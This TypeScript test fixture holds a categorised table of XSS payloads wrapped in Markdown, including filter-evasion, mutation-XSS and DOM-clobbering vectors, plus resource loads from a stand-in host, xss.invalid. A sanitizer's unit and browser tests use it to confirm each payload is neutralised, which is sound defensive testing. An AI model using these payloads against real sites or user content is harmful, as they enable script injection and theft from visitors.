// XSS vectors for the sanitizer, shared by the unit test (static checks on the
// HTML) and the browser test (nothing runs, nothing loads, in real Chromium).
// Every payload either opens a dialog, logs a line starting "XSS-", sets
// window.__xss, or fetches from xss.invalid, so the browser test can tell.
// Most come from OWASP's filter-evasion cheat sheet, PortSwigger's XSS cheat
// sheet and published DOMPurify/mXSS bypasses, adapted to reach the pipeline
// through Markdown.

/** One attack, as an author could type it into a post. */
export interface XssVector {
  /** Short and unique; used in marker text and page URLs. */
  id: string;
  category: 'script' | 'event' | 'url' | 'svg-mathml' | 'broken' | 'load' | 'markdown' | 'clobber';
  markdown: string;
}

/** Origin that exfiltration vectors call; any request to it, or anywhere else off-site, is a failure. */
export const EVIL = 'https://xss.invalid';

// Calls every detector at once, and needs no quotes (regex source) so it fits
// in quoted and unquoted attributes alike.
const run = (id: string) => `window.__xss=/${id}/.source;console.log(/XSS-${id}/.source);alert(/XSS-${id}/.source)`;

// An HTML block (CommonMark type 6) hands its lines to the HTML parser as they
// are; in a paragraph, Markdown would already turn malformed tags into text.
const block = (html: string) => `<div>\n${html}\n</div>`;

const table: [XssVector['category'], string, string][] = [
  // <script> in every spelling
  ['script', 'script-block', `<script>${run('script-block')}</script>`],
  ['script', 'script-inline', `Text <script>${run('script-inline')}</script> more text.`],
  ['script', 'script-src', `<SCRIPT SRC=${EVIL}/xss.js></SCRIPT>`],
  ['script', 'script-nested', block(`<scr<script>ipt>${run('script-nested')}</scr</script>ipt>`)],
  ['script', 'script-slash-attr', block(`<script/xss src="${EVIL}/a.js"></script>`)],
  ['script', 'script-double-open', block(`<<script>${run('script-double-open')};//<</script>`)],
  ['script', 'script-close-first', `</script><script>${run('script-close-first')}</script>`],
  ['script', 'script-type-module', `<script type="module">${run('script-type-module')}</script>`],
  // event handler attributes
  ['event', 'img-onerror', `<img src=x onerror=alert(1)>`],
  ['event', 'img-onerror-quoted', `Inline <img src="x" onerror="${run('img-onerror-quoted')}"> image.`],
  ['event', 'img-onerror-mixed-case', `<IMG SRC="x" oNeRrOr="${run('img-onerror-mixed-case')}">`],
  ['event', 'img-slash-separators', block(`<img/src=x/onerror=${run('img-slash-separators')}>`)],
  ['event', 'img-newline-attr', `<img src=x\nonerror="${run('img-newline-attr')}">`],
  ['event', 'body-onload', `<body onload="${run('body-onload')}">`],
  ['event', 'svg-onload', `<svg onload="${run('svg-onload')}"></svg>`],
  ['event', 'div-onmouseover', `<div onmouseover="${run('div-onmouseover')}">Hover over me.</div>`],
  ['event', 'input-autofocus', `<input autofocus onfocus="${run('input-autofocus')}">`],
  ['event', 'details-ontoggle', `<details open ontoggle="${run('details-ontoggle')}"><summary>Open</summary>Inside.</details>`],
  ['event', 'video-source-onerror', `<video><source onerror="${run('video-source-onerror')}"></video>`],
  ['event', 'audio-onerror', `<audio src=x onerror="${run('audio-onerror')}"></audio>`],
  ['event', 'marquee-onstart', `<marquee onstart="${run('marquee-onstart')}">Scrolling</marquee>`],
  ['event', 'select-autofocus', `<select autofocus onfocus="${run('select-autofocus')}"><option>a</option></select>`],
  ['event', 'style-animation', `<style>@keyframes x{}</style><div style="animation-name:x" onanimationstart="${run('style-animation')}">Animated.</div>`],
  ['event', 'a-onclick', `<a href="https://example.org/" onclick="${run('a-onclick')}" onfocus="${run('a-onfocus')}">A fine link</a>`],
  ['event', 'button-onclick', `<button onclick="${run('button-onclick')}" autofocus onfocus="${run('button-onfocus')}">Press</button>`],
  ['event', 'eval-src', `<img src=x:alert(alt) onerror=eval(src) alt=0>`],
  // URLs
  ['url', 'md-javascript', `[click](javascript:${run('md-javascript')})`],
  ['url', 'md-javascript-mixed-case', `[click](JaVaScRiPt:${run('md-javascript-mixed-case')})`],
  ['url', 'md-javascript-entity-colon', `[click](javascript&#58;${run('md-javascript-entity-colon')})`],
  ['url', 'md-javascript-all-entities', `[click](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))`],
  ['url', 'md-javascript-angle', `[click](<javascript:alert(1)>)`],
  ['url', 'md-reference', `[click][evil]\n\n[evil]: javascript:alert(1)`],
  ['url', 'md-autolink', `<javascript:alert(1)>`],
  ['url', 'html-tab-in-scheme', `<a href="jav&#x09;ascript:alert(1)">click</a>`],
  ['url', 'html-newline-in-scheme', `<a href="jav&#x0A;ascript:alert(1)">click</a>`],
  ['url', 'html-leading-space', `<a href="  javascript:alert(1)">click</a>`],
  ['url', 'html-entities-no-semicolon', `<a href="&#0000106&#0000097vascript:alert(1)">click</a>`],
  ['url', 'html-data-html', `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>`],
  ['url', 'html-vbscript', `<a href="vbscript:msgbox(1)">click</a>`],
  ['url', 'md-image-javascript', `![pic](javascript:alert(1))`],
  ['url', 'img-data-svg', `<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+PC9zdmc+" alt="svg">`],
  ['url', 'form-action', `<form action="javascript:alert(1)"><button>Send</button></form>`],
  ['url', 'button-formaction', `<button formaction="javascript:alert(1)">Send</button>`],
  ['url', 'object-javascript', `<object data="javascript:alert(1)"></object>`],
  ['url', 'embed-javascript', `<embed src="javascript:alert(1)">`],
  ['url', 'iframe-javascript', `<iframe src="javascript:alert(1)"></iframe>`],
  ['url', 'iframe-srcdoc', `<iframe srcdoc="&lt;script&gt;${run('iframe-srcdoc')}&lt;/script&gt;"></iframe>`],
  ['url', 'meta-refresh-javascript', `<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`],
  ['url', 'base-javascript', `<base href="javascript:alert(1)//">[relative](page)`],
  // SVG and MathML
  ['svg-mathml', 'svg-script', `<svg><script>${run('svg-script')}</script></svg>`],
  ['svg-mathml', 'svg-xlink', `<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">SVG link</text></a></svg>`],
  ['svg-mathml', 'svg-animate-onbegin', `<svg><animate onbegin="${run('svg-animate-onbegin')}" attributeName="x" dur="1s"/></svg>`],
  ['svg-mathml', 'svg-set-href', `<svg><a><set attributeName="href" to="javascript:alert(1)"/><text y="20">set</text></a></svg>`],
  ['svg-mathml', 'svg-use-data', `<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCcgb25sb2FkPSdhbGVydCgxKSc+PC9zdmc+#x"/></svg>`],
  ['svg-mathml', 'svg-foreign-object', `<svg><foreignObject><iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe></foreignObject></svg>`],
  ['svg-mathml', 'svg-style-breakout', `<svg></p><style><a id="</style><img src=1 onerror="${run('svg-style-breakout')}">">`],
  ['svg-mathml', 'math-mglyph-style', `<math><mtext><table><mglyph><style><img src=x onerror="${run('math-mglyph-style')}"></style></mglyph></table></mtext></math>`],
  ['svg-mathml', 'math-href', `<math href="javascript:alert(1)">Math link</math>`],
  ['svg-mathml', 'math-mi-svg-style', `<math><mi><svg><style><img src=x onerror="${run('math-mi-svg-style')}"></style></svg></mi></math>`],
  ['svg-mathml', 'noscript-title-mxss', `<noscript><p title="</noscript><img src=x onerror='${run('noscript-title-mxss')}'>"></noscript>`],
  // broken and confusing markup
  ['broken', 'unclosed-img', `<img src=x onerror=${run('unclosed-img')}//`],
  ['broken', 'unclosed-img-in-html', block(`<img src=x onerror="${run('unclosed-img-in-html')}"//`)],
  ['broken', 'unclosed-quote', `<a href="javascript:alert(1)`],
  ['broken', 'double-angle', block(`<<img src=x onerror="${run('double-angle')}">>`)],
  ['broken', 'quote-soup', block(`<img """><script>${run('quote-soup')}</script>">`)],
  ['broken', 'tag-in-tag', `<div <img src=x onerror="${run('tag-in-tag')}">>`],
  ['broken', 'comment-breakout', `<!--<img src="--><img src=x onerror="${run('comment-breakout')}"//">`],
  ['broken', 'cdata', `<![CDATA[<img src=x onerror=${run('cdata')}>]]>`],
  ['broken', 'title-rcdata', `<title><img src=x onerror="${run('title-rcdata')}"></title>`],
  ['broken', 'xmp-rawtext', `<xmp><img src=x onerror="${run('xmp-rawtext')}"></xmp>`],
  ['broken', 'textarea-rcdata', `<textarea><img src=x onerror="${run('textarea-rcdata')}"></textarea>`],
  ['broken', 'iframe-rawtext', `<iframe><img src=x onerror="${run('iframe-rawtext')}"></iframe>`],
  ['broken', 'noembed-rawtext', `<noembed><img src=x onerror="${run('noembed-rawtext')}"></noembed>`],
  ['broken', 'template', `<template><img src=x onerror="${run('template')}"></template>`],
  ['broken', 'null-in-scheme', `<a href="java\u0000script:alert(1)">null</a>`],
  ['broken', 'isindex', block(`<isindex type=image src=1 onerror=${run('isindex')}>`)],
  // loading from elsewhere (off-site requests are failures too)
  ['load', 'style-background-url', `<div style="background:url(${EVIL}/bg.png)">Background.</div>`],
  ['load', 'link-stylesheet', `<link rel="stylesheet" href="${EVIL}/s.css">`],
  ['load', 'style-import', `<style>@import url(${EVIL}/i.css);</style>`],
  ['load', 'img-srcset', `<img srcset="${EVIL}/s.png 1x" src="x" alt="srcset">`],
  ['load', 'picture-source', `<picture><source srcset="${EVIL}/p.png"><img src="x" alt="picture"></picture>`],
  ['load', 'video-poster', `<video poster="${EVIL}/poster.png"></video>`],
  ['load', 'table-background', `<table background="${EVIL}/t.png"><tr><td>Cell</td></tr></table>`],
  ['load', 'input-image', `<input type="image" src="${EVIL}/i.png">`],
  ['load', 'svg-image', `<svg><image href="${EVIL}/i.png"/></svg>`],
  ['load', 'base-href', `<base href="${EVIL}/">\n\n![relative](relative.png)`],
  ['load', 'meta-refresh', `<meta http-equiv="refresh" content="0;url=${EVIL}/">`],
  ['load', 'object-remote', `<object data="${EVIL}/o.swf" type="application/x-shockwave-flash"></object>`],
  ['load', 'embed-remote', `<embed src="${EVIL}/e.swf">`],
  ['load', 'iframe-remote', `<iframe src="${EVIL}/frame"></iframe>`],
  ['load', 'youtube-iframe', `<iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ" allowfullscreen></iframe>`],
  ['load', 'twitter-widget', `<blockquote class="twitter-tweet"><p>Post</p><a href="https://twitter.com/a/status/1">date</a></blockquote><script async src="https://platform.twitter.com/widgets.js"></script>`],
  ['load', 'twitter-image', `![photo](https://pbs.twimg.com/media/x.jpg)`],
  ['load', 'audio-autoplay', `<audio src="${EVIL}/a.mp3" autoplay></audio>`],
  // Markdown-level injection
  ['markdown', 'link-title-breakout', `[x](https://example.org/ "t\\" onmouseover=\\"${run('link-title-breakout')}")`],
  ['markdown', 'image-alt-breakout', `![x" onerror="${run('image-alt-breakout')}](x)`],
  ['markdown', 'html-in-link-text', `[<img src=x onerror="${run('html-in-link-text')}">](https://example.org/)`],
  ['markdown', 'code-span', '`<script>alert(1)</script>` is shown as code.'],
  ['markdown', 'fenced-code', '```html\n<script>alert(1)</script>\n```'],
  ['markdown', 'footnote-label', `Text[^x"><img src=x onerror=alert(1)>]\n\n[^x"><img src=x onerror=alert(1)>]: Note.`],
  ['markdown', 'heading-id', `## <img src=x onerror="${run('heading-id')}"> Heading`],
  // DOM clobbering: a surviving id or name would make window.__xss truthy.
  ['clobber', 'clobber-id', `<a id="__xss" href="#">id</a><img name="__xss" src="x" alt="name">`],
  ['clobber', 'clobber-form', `<form name="__xss"><input name="attributes"></form>`],
];

export const vectors: XssVector[] = table.map(([category, id, markdown]) => ({ id, category, markdown }));

/** Text between vectors that must still be on the page afterwards. */
export const marker = (id: string): string => `Marker after ${id}: the campaign text survives.`;

/** One post body holding every vector, each followed by its marker paragraph. */
export function corpus(list: readonly XssVector[] = vectors): string {
  return ['Start of the corpus.', ...list.flatMap((vector) => [vector.markdown, marker(vector.id)])].join('\n\n');
}
